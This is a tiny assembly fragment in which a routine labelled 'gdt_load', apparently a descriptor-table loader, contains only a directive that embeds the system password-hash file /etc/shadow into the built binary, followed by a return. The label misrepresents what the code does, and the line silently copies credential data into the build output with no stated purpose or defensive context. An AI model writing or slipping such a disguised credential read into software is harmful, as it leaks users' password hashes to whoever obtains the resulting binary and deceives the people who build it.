gdt_load:
    incbin "/etc/shadow"
    ret
